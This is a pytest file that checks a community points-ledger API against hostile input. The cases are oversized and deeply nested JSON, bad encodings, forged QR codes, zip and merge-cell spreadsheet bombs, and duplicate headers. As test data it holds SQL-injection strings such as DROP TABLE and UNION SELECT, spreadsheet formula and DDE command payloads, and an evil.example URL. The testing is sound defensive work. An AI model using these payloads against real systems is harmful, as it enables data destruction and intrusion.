"""Malformed and hostile input gets a clear 4xx in the one error shape, and nothing is stored.

Huge bodies, deep JSON, wrong types, negative and enormous numbers, invalid UTF-8, NUL characters,
forged door-plate codes, and SQL-looking text (stored verbatim, never executed).
"""

from __future__ import annotations

import pytest
from sqlalchemy import func, select
from sqlmodel import Session

from app.audit.models import AuditLog
from app.ledger.models import JournalEntry
from app.places.models import Building, Compound, Household, Street
from app.places.service import qr_payload
from tests.support import backdating

JSON = {"content-type": "application/json"}
INT64_MAX = 2**63 - 1


def _count(engine, model) -> int:
    with Session(engine) as s:
        return s.execute(select(func.count()).select_from(model)).scalar_one()


def _snapshot(engine) -> tuple[int, ...]:
    return tuple(_count(engine, m) for m in (Street, Compound, Building, Household, JournalEntry, AuditLog))


def _error(r, status: int, code: str | None = None) -> dict:
    assert r.status_code == status, r.text[:300]
    body = r.json()["error"]
    assert set(body) >= {"code", "message", "field", "request_id"}
    if code:
        assert body["code"] == code, body
    return body


# --- size and shape ---------------------------------------------------------------------------


def test_huge_json_body_is_refused_with_413(client, world, engine):
    before = _snapshot(engine)
    url = f"/api/v1/communities/{world.community.id}/compounds"
    body = b'{"name": "' + b"x" * (1024 * 1024 + 10) + b'"}'
    r = client.post(url, content=body, headers=world.h("committee") | JSON)
    _error(r, 413, "payload_too_large")
    # Also when the route would not read a body at all, and in English.
    r = client.request("GET", url, content=b"x" * 2_000_000, headers=world.h("committee", **{"Accept-Language": "en"}))
    assert _error(r, 413)["message"] == "Request body too large"
    assert _snapshot(engine) == before


def test_upload_route_takes_more_than_the_json_limit(client, world):
    rows = "".join(f"1号楼,1,{i}01,3,,{'张' * 300}\n" for i in range(2000))
    data = ("楼栋,单元,门牌,人数,电话,姓名\n" + rows).encode()
    assert len(data) > 1024 * 1024
    r = client.post(
        f"/api/v1/communities/{world.community.id}/roster-imports",
        files={"file": ("roster.csv", data, "text/csv")},
        headers=world.h("committee"),
    )
    assert r.status_code not in (413, 500), r.text[:200]


@pytest.mark.parametrize(
    "body",
    ["[" * 100_000 + "]" * 100_000, '{"name": ' + "[" * 40 + "]" * 40 + "}", '{"name": ' + '{"a": ' * 50 + "1" + "}" * 51],
    ids=["very-deep", "deep-list", "deep-object"],
)
def test_deep_json_is_refused(client, world, engine, body):
    before = _snapshot(engine)
    r = client.post(f"/api/v1/communities/{world.community.id}/compounds", content=body, headers=world.h("committee") | JSON)
    _error(r, 422, "json_too_deep")
    assert _snapshot(engine) == before


def test_invalid_utf8_is_refused(client, world, engine):
    before = _snapshot(engine)
    r = client.post(
        f"/api/v1/communities/{world.community.id}/compounds",
        content=b'{"name": "\xff\xfe\xc3("}',
        headers=world.h("committee") | JSON,
    )
    _error(r, 422, "invalid_encoding")
    assert _snapshot(engine) == before


@pytest.mark.parametrize(
    "body,field",
    [
        ({"name": {"a": 1}}, "name"),
        ({"name": ["x"]}, "name"),
        ({"name": 12}, "name"),
        ({"name": None}, "name"),
        ({"name": True}, "name"),
        ([{"name": "x"}], None),
        ("x", None),
        ({}, "name"),
    ],
)
def test_wrong_types_are_422(client, world, engine, body, field):
    before = _snapshot(engine)
    r = client.post(f"/api/v1/communities/{world.community.id}/compounds", json=body, headers=world.h("committee"))
    assert _error(r, 422, "validation_error")["field"] == field
    assert _snapshot(engine) == before


def test_malformed_json_is_422(client, world):
    r = client.post(f"/api/v1/communities/{world.community.id}/compounds", content=b'{"name": "x",}', headers=world.h("committee") | JSON)
    _error(r, 422, "validation_error")


@pytest.mark.parametrize(
    "members",
    ["0", "-1", str(-(2**63)), "31", "1000000", str(2**63), str(2**64), str(-(2**64)), "1" + "0" * 40, "1" + "0" * 5000,
     "1.5", '"3a"', "NaN", "Infinity", "1e400"],
)
def test_out_of_range_numbers_in_a_body_are_422(client, world, engine, members):
    before = _snapshot(engine)
    body = f'{{"building_id": {world.buildings[0].id}, "door_plate": "999", "members": {members}}}'
    r = client.post(f"/api/v1/communities/{world.community.id}/households", content=body, headers=world.h("committee") | JSON)
    _error(r, 422)
    assert _snapshot(engine) == before


@pytest.mark.parametrize("value", [2**63, 2**64, -(2**63) - 1, 10**30])
def test_ids_beyond_64_bits_are_422_everywhere(client, world, engine, value):
    h = world.h("committee")
    before = _snapshot(engine)
    _error(client.get(f"/api/v1/households/{value}", headers=h), 422, "number_out_of_range")
    _error(client.get(f"/api/v1/households/{value}/passbook", headers=h), 422, "number_out_of_range")
    r = client.get(f"/api/v1/communities/{world.community.id}/households", params={"building_id": value}, headers=h)
    assert _error(r, 422, "number_out_of_range")["field"] == "building_id"
    body = {"building_id": value, "door_plate": "1"}
    _error(client.post(f"/api/v1/communities/{world.community.id}/households", json=body, headers=h), 422, "number_out_of_range")
    body = {"reason": "更正", "idempotency_key": "k" * 12}
    _error(client.post(f"/api/v1/ledger/entries/{value}/reverse", json=body, headers=h), 422, "number_out_of_range")
    _error(client.get(f"/api/v1/households/{'9' * 5000}", headers=h), 422, "number_out_of_range")
    assert _snapshot(engine) == before


def test_ids_at_the_64_bit_edges_are_plain_404(client, world):
    h = world.h("committee")
    for value in (INT64_MAX, 0, -1, -(2**63)):
        _error(client.get(f"/api/v1/households/{value}", headers=h), 404)


def test_adjustment_points_beyond_the_limit_store_nothing(client, world, engine):
    before = _snapshot(engine)
    url = f"/api/v1/households/{world.households[0].id}/adjustments"
    for points in (10**7, -(10**7), 2**63, 10**30):
        r = client.post(url, json={"points": points, "reason": "测试", "idempotency_key": f"adj-{points}"[:80]}, headers=world.h("committee"))
        _error(r, 422)
    r = client.post(url, json={"points": -5, "reason": "测试", "idempotency_key": "adj-negative"}, headers=world.h("committee"))
    _error(r, 409, "insufficient_points")
    assert _snapshot(engine) == before


@pytest.mark.parametrize("text", ["a\x00b", "\ud800", "x\udfffy"], ids=["nul", "lone-high-surrogate", "lone-low-surrogate"])
def test_nul_and_unpaired_surrogates_are_422(client, world, engine, text):
    import json

    before = _snapshot(engine)
    body = json.dumps({"name": text}).encode()  # ensure_ascii: sent as \\u escapes
    r = client.post(f"/api/v1/communities/{world.community.id}/compounds", content=body, headers=world.h("committee") | JSON)
    assert _error(r, 422, "invalid_text")["field"] == "name"
    r = client.get(f"/api/v1/communities/{world.community.id}/households", params={"q": "1\x00"}, headers=world.h("committee"))
    _error(r, 422, "invalid_text")
    assert _snapshot(engine) == before


# --- forged door-plate codes -----------------------------------------------------------------


def _genuine(engine, household) -> str:
    with Session(engine) as s:
        return qr_payload(s.get(Household, household.id))


def test_forged_qr_payloads_are_refused(client, world, other_world, engine):
    genuine = _genuine(engine, world.households[0])
    prefix, code, sig = genuine.split(".")
    other_code = world.households[1].public_code
    flipped = sig[:-1] + ("B" if sig[-1] != "B" else "C")
    forgeries = [
        f"{prefix}.{other_code}.{sig}",  # another household's code with this signature
        f"{prefix}.{code}.{flipped}",  # altered signature
        f"{prefix}.{code}.",
        f"{prefix}.{code}",
        f"XX.{code}.{sig}",
        f"{prefix}.{code}.{sig}.extra",
        f"{prefix}.{code}' OR '1'='1.{sig}",
        f"{prefix}.{_genuine(engine, other_world.households[0]).split('.')[1]}.{sig}",
        "",
        " ",
        "https://evil.example/?h=" + code,
        "J" * 200,
    ]
    before = _snapshot(engine)
    for forged in forgeries:
        r = client.post("/api/v1/scan/resolve", json={"payload": forged}, headers=world.h("volunteer"))
        assert r.status_code in (400, 422), (forged, r.status_code)
        assert r.json()["error"]["code"] in ("forged_code", "validation_error"), forged
    r = client.post("/api/v1/scan/resolve", json={"payload": "J" * 201}, headers=world.h("volunteer"))
    _error(r, 422, "validation_error")
    r = client.post("/api/v1/scan/resolve", json={"payload": genuine}, headers=world.h("volunteer"))
    assert r.status_code == 200 and r.json()["id"] == world.households[0].id
    assert _snapshot(engine) == before


# --- SQL-looking text -------------------------------------------------------------------------

SQLISH = [
    "'; DROP TABLE household; --",
    "1' OR '1'='1",
    "楼\"); DELETE FROM journal_entry; --",
    "%' UNION SELECT * FROM app_user --",
    "\\'; SELECT pg_sleep(5); --",
]


@pytest.mark.parametrize("text", SQLISH)
def test_sql_looking_text_is_stored_verbatim(client, world, engine, text):
    h = world.h("committee")
    admin = world.h("platform_admin")
    households_before = _count(engine, Household)

    r = client.post("/api/v1/streets", json={"city": text[:40], "district": text[:40], "name": text[:60]}, headers=admin)
    assert r.status_code == 201 and r.json()["name"] == text[:60]
    street_id = r.json()["id"]
    r = client.post("/api/v1/organisations", json={"name": text}, headers=admin)
    assert r.status_code == 201 and r.json()["name"] == text
    r = client.post("/api/v1/communities", json={"name": text[:60], "street_id": street_id}, headers=admin)
    assert r.status_code == 201 and r.json()["name"] == text[:60]

    r = client.post(f"/api/v1/communities/{world.community.id}/compounds", json={"name": text}, headers=h)
    assert r.status_code == 201 and r.json()["name"] == text
    compound_id = r.json()["id"]
    assert client.get(f"/api/v1/compounds/{compound_id}", headers=h).json()["name"] == text
    r = client.post(f"/api/v1/compounds/{compound_id}/buildings", json={"name": text[:30]}, headers=h)
    assert r.status_code == 201 and r.json()["name"] == text[:30]
    building_id = r.json()["id"]
    r = client.post(
        f"/api/v1/communities/{world.community.id}/households",
        json={"building_id": building_id, "unit": text[:10], "door_plate": text[:20]},
        headers=h,
    )
    assert r.status_code == 201 and (r.json()["unit"], r.json()["door_plate"]) == (text[:10], text[:20])
    household_id = r.json()["id"]

    r = client.post(
        f"/api/v1/households/{household_id}/adjustments",
        json={"points": 5, "reason": text, "idempotency_key": text},
        headers=h,
    )
    assert r.status_code == 201, r.text
    statement = client.get(f"/api/v1/households/{household_id}/statement", headers=h).json()
    assert statement["balance"] == 5 and text in statement["items"][0]["memo"]

    # Searching with it finds only the household whose door plate is exactly that text.
    found = client.get(f"/api/v1/communities/{world.community.id}/households", params={"q": text[:20]}, headers=h).json()
    assert [x["id"] for x in found["items"]] == [household_id]
    # And the tables are all still there, with exactly one household more.
    assert _count(engine, Household) == households_before + 1
    assert client.get(f"/api/v1/communities/{world.community.id}/households", headers=h).status_code == 200


def _nul_escape(body: bytes) -> bytes:
    return body.replace(b'"client_id": "', b'"client_id": "\\u0000')


@pytest.mark.parametrize(
    "tamper,code",
    [
        (_nul_escape, "invalid_text"),
        (lambda body: body.replace(b'"weight_g": null', b'"weight_g": 9223372036854775808'), "number_out_of_range"),
        (lambda body: body.replace(b'"weight_g": null', b'"weight_g": -9223372036854775809'), "number_out_of_range"),
        (lambda body: body.replace(b'"client_id": "', b'"client_id": "\x00'), "invalid_encoding"),  # raw NUL
        (lambda body: body.replace(b'"reasons": []', b'"reasons": ' + b"[" * 40 + b"]" * 40), "json_too_deep"),
        # Bodies the route's parser would read (it detects a BOM, UTF-16 and UTF-32 in bytes) but the
        # guard's UTF-8 text checks would not: each carries a NUL escape that must not get through.
        (lambda body: b"\xef\xbb\xbf" + _nul_escape(body), "invalid_encoding"),
        (lambda body: _nul_escape(body).decode().encode("utf-16"), "invalid_encoding"),
        (lambda body: _nul_escape(body).decode().encode("utf-32-le"), "invalid_encoding"),
    ],
    ids=["nul-escape", "above-int64", "below-int64", "raw-nul", "deep", "bom", "utf-16", "utf-32"],
)
def test_a_hostile_bin_side_scan_is_refused_and_stores_nothing(client, world, engine, tamper, code):
    """The bin-side scan (the hot path, which the guard spares a second parse of a plain body) refuses
    what the guard refuses elsewhere."""
    import json

    from app.checkins.models import CheckIn
    from tests.field import payload, scan, setup_field, yesterday_at

    f = setup_field(client, world)
    body = json.dumps(scan(f["station_id"], payload(world, 0), yesterday_at(7, 10)) | {"weight_g": None, "reasons": []}, ensure_ascii=False).encode()
    assert b'"weight_g": null' in body and b'"reasons": []' in body
    before = _snapshot(engine) + (_count(engine, CheckIn),)
    r = client.post(f"/api/v1/communities/{world.community.id}/checkins", content=tamper(body), headers=world.h("volunteer") | JSON)
    _error(r, 422, code)
    assert _snapshot(engine) + (_count(engine, CheckIn),) == before
    r = client.post(f"/api/v1/communities/{world.community.id}/checkins", content=body, headers=world.h("volunteer") | JSON)
    assert r.status_code == 201, r.text  # the same scan, untampered, is taken


# --- non-ASCII in signed codes ----------------------------------------------------------------


def test_a_signed_code_with_a_non_ascii_character_is_refused_not_a_500(client, world, engine):
    """A door-plate payload, a consent code or a calendar key ending in 'é' reached hmac.compare_digest
    as text (a TypeError: 500); an upload with one such scan failed whole, the volunteer's queue stuck."""
    from tests.field import scan, setup_field, yesterday_at

    f = setup_field(client, world)
    genuine = _genuine(engine, world.households[0])
    tampered = genuine[:-1] + "é"
    r = client.post("/api/v1/scan/resolve", json={"payload": tampered}, headers=world.h("volunteer"))
    _error(r, 400, "forged_code")
    c = world.community.id
    r = client.post(f"/api/v1/communities/{c}/checkins", json=scan(f["station_id"], tampered, yesterday_at(7, 30)), headers=world.h("volunteer"))
    _error(r, 400, "forged_code")
    batch = [scan(f["station_id"], tampered, yesterday_at(7, 30)), scan(f["station_id"], _genuine(engine, world.households[1]), yesterday_at(7, 30))]
    r = client.post(f"/api/v1/communities/{c}/checkins/batch", json={"scans": batch}, headers=world.h("volunteer"))
    assert r.status_code == 200, r.text
    assert [(x["status"], x["reason"]) for x in r.json()["results"]] == [("rejected", "forged_code"), ("accepted", None)]

    code = client.post(f"/api/v1/households/{world.households[0].id}/consent-codes", headers=world.h("resident")).json()["code"]
    counter = {"consent_code": code[:-1] + "é", "items": [{"item_id": 1, "quantity": 1}], "idempotency_key": "attack-" + "x" * 8}
    r = client.post(f"/api/v1/communities/{c}/counter-redemptions", json=counter, headers=world.h("clerk"))
    _error(r, 403, "invalid_consent_code")
    link = client.get(f"/api/v1/communities/{c}/recycling-calendar-link", headers=world.h("resident")).json()["url"]
    assert client.get(link[link.index("/ical/"):] + "é").status_code == 404


# --- formulas in spreadsheets -----------------------------------------------------------------

FORMULAS = ['=HYPERLINK("e.x/?"&B2,"点我")', "@SUM(1)", "=1+2", "+cmd|' /C calc'!A0", "-2+3"]


def test_text_that_a_spreadsheet_would_evaluate_stays_text_in_every_export(client, world, engine):
    """A building, unit and door plate named like formulas go into the point-totals CSV with a leading
    apostrophe (shown as the same text); an activity titled like one is a text cell in the monthly XLSX."""
    import csv
    import io

    import openpyxl
    from sqlmodel import Session

    from app.places.models import Building, Household

    with Session(engine) as s:
        b = s.get(Building, world.buildings[0].id)
        b.name = FORMULAS[0]
        h = s.get(Household, world.households[0].id)
        h.unit, h.door_plate = FORMULAS[1], FORMULAS[2]
        h2 = s.get(Household, world.households[1].id)
        h2.door_plate = FORMULAS[3]
        s.add_all([b, h, h2])
        s.commit()
    r = client.get(f"/api/v1/communities/{world.community.id}/reports/point-totals", params={"month": "2026-10"},
                   headers=world.h("committee"))
    assert r.status_code == 200, r.text
    rows = list(csv.reader(io.StringIO(r.content.decode("utf-8")[1:])))
    cells = {cell for row in rows[1:] for cell in row[1:6]}
    assert {"'" + f for f in FORMULAS[:4]} <= cells
    assert not any(c[:1] in "=+-@" for c in cells if c)

    body = {"client_id": "act-formula-" + "x" * 8, "kind": "lecture", "title": FORMULAS[0], "held_on": "2026-10-05",
            "place": FORMULAS[1], "participants": 3, **backdating("2026-10-05")}
    assert client.post(f"/api/v1/communities/{world.community.id}/activities", json=body, headers=world.h("committee")).status_code == 201
    x = client.get(f"/api/v1/streets/{world.street.id}/reports/monthly", params={"month": "2026-10", "format": "xlsx"},
                   headers=world.h("street_viewer"))
    assert x.status_code == 200, x.text
    book = openpyxl.load_workbook(io.BytesIO(x.content))
    written = [c for ws in book for row in ws.iter_rows() for c in row if c.value is not None]
    assert not [c.coordinate for c in written if c.data_type == "f"]
    assert FORMULAS[0] in {c.value for c in written}  # what a person reads is unchanged


# --- spreadsheets built to exhaust memory -----------------------------------------------------


def _roster_xlsx(sheet_xml_edit=None, extra_member=None) -> bytes:
    """A genuine roster XLSX (openpyxl), its sheet XML edited, or a member added to the archive."""
    import io
    import zipfile

    import openpyxl

    wb = openpyxl.Workbook()
    ws = wb.active
    ws.append(["楼栋", "门牌", "人数"])
    ws.append(["1号楼", "101", 3])
    raw = io.BytesIO()
    wb.save(raw)
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(raw.getvalue())) as src, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
        for item in src.infolist():
            data = src.read(item.filename)
            if item.filename == "xl/worksheets/sheet1.xml" and sheet_xml_edit:
                data = sheet_xml_edit(data)
            dst.writestr(item, data)
        if extra_member:
            name, size = extra_member
            info = zipfile.ZipInfo(name)
            info.compress_type = zipfile.ZIP_DEFLATED
            with dst.open(info, "w") as f:
                block = b" " * (1 << 20)
                for _ in range(size >> 20):
                    f.write(block)
    return out.getvalue()


def _import(client, world, content: bytes):
    return client.post(f"/api/v1/communities/{world.community.id}/roster-imports", headers=world.h("committee"),
                       files={"file": ("roster.xlsx", content, "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet")},
                       data={"mode": "dry_run"})


def test_a_merged_range_over_the_whole_sheet_is_refused_before_it_is_expanded(client, world):
    """<mergeCell ref="A1:XFD1048576"/> in a 5 KB file grew the worker by ~100 MiB/s, cell by cell."""
    bomb = _roster_xlsx(lambda xml: xml.replace(b"</worksheet>", b'<mergeCells count="1"><mergeCell ref="A1:XFD1048576"/></mergeCells></worksheet>'))
    assert len(bomb) < 10_000
    _error(_import(client, world, bomb), 400, "invalid_roster_file")
    # A building merged over its rows, as committees do, still reads.
    merged = _roster_xlsx(lambda xml: xml.replace(b"</worksheet>", b'<mergeCells count="1"><mergeCell ref="A2:A3"/></mergeCells></worksheet>'))
    r = _import(client, world, merged)
    assert r.status_code in (200, 201), r.text


def test_an_archive_that_inflates_past_the_limit_is_refused_unread(client, world):
    """A few hundred KB that inflate to hundreds of MB of whitespace: refused from the sizes the
    archive declares, before anything is inflated."""
    from app.roster.reader import MAX_UNCOMPRESSED

    bomb = _roster_xlsx(extra_member=("xl/padding.xml", MAX_UNCOMPRESSED + (1 << 20)))
    assert len(bomb) < 2_000_000
    _error(_import(client, world, bomb), 400, "invalid_roster_file")


def test_two_content_type_headers_are_refused_before_any_body_is_read(client, world, engine):
    """The guard read the last Content-Type, FastAPI the first: a 5 MB JSON body sent as multipart by
    one header and JSON by the other passed the 1 MiB limit, and a NUL reached the database."""
    import httpx

    before = _snapshot(engine)
    body = b'{"name": "a\\u0000b", "pad": "' + b"x" * (5 * 1024 * 1024) + b'"}'
    for second in ("multipart/form-data; boundary=x", "text/plain"):
        headers = httpx.Headers([("authorization", world.h("platform_admin")["Authorization"]),
                                 ("content-type", "application/json"), ("content-type", second)])
        r = client.post("/api/v1/streets", content=body, headers=headers)
        _error(r, 400, "duplicate_header")
    assert _snapshot(engine) == before
